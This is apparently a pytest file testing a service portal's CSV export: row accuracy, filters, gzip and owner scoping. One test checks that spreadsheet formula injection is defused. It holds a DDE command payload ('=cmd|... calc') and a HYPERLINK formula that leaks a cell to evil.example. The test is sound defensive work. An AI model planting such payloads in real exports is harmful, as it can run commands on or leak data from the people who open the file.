"""CSV exports from the request list: exactly the list's rows, in its order, safe for spreadsheets."""

from __future__ import annotations

import re

from sqlalchemy import select

from portal.domain.workflow import PRIORITY_LABELS, STATUS_LABELS
from portal.extensions import db
from portal.models import Category, Export, ServiceRequest, SlaMetric, User
from tests.exports.conftest import seed_requests
from tests.exports.helpers import csv_rows, export_id_from, spreadsheet_safe, text_of

HEADER = ["id", "title", "status", "priority", "category", "requester", "requester_email", "assignee",
          "created_utc", "updated_utc", "first_response_utc", "resolved_utc", "closed_utc", "response_due_utc",
          "resolution_due_utc", "sla_breached"]


def _expected_rows(app) -> list[list[str]]:
    """Every request as the CSV must show it, newest first (the list's default order), built in Python."""
    with app.app_context():
        names = dict(db.session.execute(select(Category.code, Category.name)).all())
        users = {u.id: u for u in db.session.scalars(select(User))}
        clocks = {m.request_id: m for m in db.session.scalars(select(SlaMetric))}
        requests = db.session.scalars(select(ServiceRequest).order_by(ServiceRequest.created_at.desc(),
                                                                      ServiceRequest.id.desc())).all()

        def ts(value) -> str:
            from datetime import UTC

            return value.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S") if value else ""

        rows = []
        for r in requests:
            clock = clocks.get(r.id)
            requester, assignee = users[r.requester_id], users.get(r.assignee_id)
            rows.append([
                str(r.id), spreadsheet_safe(r.title), STATUS_LABELS[r.status], PRIORITY_LABELS[r.priority],
                names[r.category], spreadsheet_safe(requester.name), requester.email,
                spreadsheet_safe(assignee.name) if assignee else "",
                ts(r.created_at), ts(r.updated_at), ts(r.first_response_at), ts(r.resolved_at), ts(r.closed_at),
                ts(clock.response_due_at) if clock else "", ts(clock.resolution_due_at) if clock else "",
                ("yes" if clock.is_breached else "no") if clock else "",
            ])
        return rows


def test_csv_export_of_10000_requests_matches_every_row(app, people, signed_in, run_worker):
    seed_requests(app, 10_000, people.requester.id, people.agent.id)
    manager = signed_in(people.manager)

    export_id = export_id_from(manager.post("/exports", data={"format": "csv"}))
    run_worker("exports")

    page = text_of(manager.get(f"/exports/{export_id}"))
    assert "10,000 rows" in page and "Ready" in page
    download = manager.get(f"/exports/{export_id}/download")
    assert download.status_code == 200
    assert download.mimetype == "text/csv"
    assert re.search(r'attachment; filename=requests-\d{4}-\d\d-\d\d-\d{4}\.csv$',
                     download.headers["Content-Disposition"])
    rows = csv_rows(download.get_data())
    assert rows[0] == HEADER
    expected = _expected_rows(app)
    assert len(rows) - 1 == len(expected) == 10_000
    for got, want in zip(rows[1:], expected, strict=True):
        assert got == want
    with app.app_context():
        export = db.session.get(Export, export_id)
        assert (export.status, export.rows_done, export.rows_total, export.gzipped) == ("done", 10_000, 10_000, False)
        assert export.size_bytes == len(download.get_data())


def test_csv_export_keeps_the_lists_filters_and_sort(app, people, signed_in, run_worker):
    seed_requests(app, 3_000, people.requester.id, people.agent.id)
    manager = signed_in(people.manager)
    view = {"status": "active", "priority": "high", "q": "minus", "sort": "oldest"}

    listed: list[str] = []
    page_number = 1
    while True:
        html = text_of(manager.get("/requests", query_string={**view, "per_page": 100, "page": page_number}))
        listed += re.findall(r'<td class="num">(\d+)</td>', html)
        if 'rel="next"' not in html:
            break
        page_number += 1
    assert 50 < len(listed) < 3_000

    list_page = text_of(manager.get("/requests", query_string=view))
    form = re.search(r'<form class="export-actions".*?</form>', list_page, re.S).group(0)
    posted = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', form))
    assert {k: v for k, v in posted.items() if k != "csrf_token"} == view  # the buttons carry the view shown

    export_id = export_id_from(manager.post("/exports", data={**posted, "format": "csv"}))
    run_worker("exports")
    rows = csv_rows(manager.get(f"/exports/{export_id}/download").get_data())
    assert [row[0] for row in rows[1:]] == listed
    shown = text_of(manager.get(f"/exports/{export_id}"))
    for fact in ("Open work (not resolved)", "High", "“minus”", "Oldest first"):
        assert fact in shown


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_defused(app, people, signed_in, run_worker):
    seed_requests(app, 10, people.requester.id)
    with app.app_context():
        user = db.session.get(User, people.requester.id)
        user.name = "=cmd|' /C calc'!A0"
        db.session.commit()
    manager = signed_in(people.manager)
    export_id = export_id_from(manager.post("/exports", data={"format": "csv"}))
    run_worker("exports")
    rows = csv_rows(manager.get(f"/exports/{export_id}/download").get_data())[1:]
    titles = {row[1].split(" #")[0] for row in rows}
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1, \"click\")" in titles
    assert {"'+1+1 sum", "'-2 minus", "'@SUM(A1:A9)", "'\tTabbed", "'\rReturn first"} <= titles
    assert "Two\nlines" in titles and "Ünïcödé — 日本語 ✓" in titles  # text kept whole, UTF-8
    assert {row[5] for row in rows} == {"'=cmd|' /C calc'!A0"}
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r"), row
            assert not cell.startswith("-"), row


def test_large_csv_is_gzipped(app, people, signed_in, run_worker):
    seed_requests(app, 500, people.requester.id, people.agent.id)
    manager = signed_in(people.manager)
    export_id = export_id_from(manager.post("/exports", data={"format": "csv"}))
    run_worker("exports", EXPORT_GZIP_OVER_BYTES="20000")

    assert "(gzip)" in text_of(manager.get(f"/exports/{export_id}"))
    download = manager.get(f"/exports/{export_id}/download")
    assert download.mimetype == "application/gzip"
    assert download.headers["Content-Disposition"].endswith(".csv.gz")
    rows = csv_rows(download.get_data(), gzipped=True)
    assert rows[0] == HEADER and len(rows) == 501
    with app.app_context():
        export = db.session.get(Export, export_id)
        assert export.gzipped and export.size_bytes == len(download.get_data()) < 20_000


def test_an_export_sees_only_what_its_owner_sees_and_assignee_me_means_the_owner(app, people, signed_in,
                                                                                 run_worker):
    seed_requests(app, 40, people.requester.id, people.manager.id)  # every second one assigned to the manager
    manager = signed_in(people.manager)
    export_id = export_id_from(manager.post("/exports", data={"format": "csv", "assignee": "me"}))
    run_worker("exports")
    rows = csv_rows(manager.get(f"/exports/{export_id}/download").get_data())[1:]
    assert len(rows) == 20 and {row[7] for row in rows} == {"Mona Manager"}
